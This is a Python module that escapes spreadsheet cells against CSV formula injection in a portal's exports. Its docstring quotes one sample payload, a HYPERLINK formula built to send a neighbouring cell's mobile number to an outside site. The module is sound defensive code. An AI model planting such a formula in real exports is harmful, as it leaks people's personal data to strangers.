"""Safe cells for every spreadsheet the portal writes (CSV and .xlsx).

A cell whose text starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is run as a
formula by Excel, LibreOffice and WPS when the file is opened (OWASP, "CSV Injection"): a member
named ``=HYPERLINK("http://…?"&H2,"点此")`` would send the next column's full mobile number to a
stranger's site with one click. Every exporter passes each cell through ``safe_cell``, which
puts an apostrophe before such text, the escape that every spreadsheet program shows as the
text itself. Numbers, dates and booleans pass through unchanged: they cannot be formulas.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """``value`` as it may be written into a spreadsheet cell without being run as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_row(values: Iterable[Any]) -> list[Any]:
    return [safe_cell(value) for value in values]
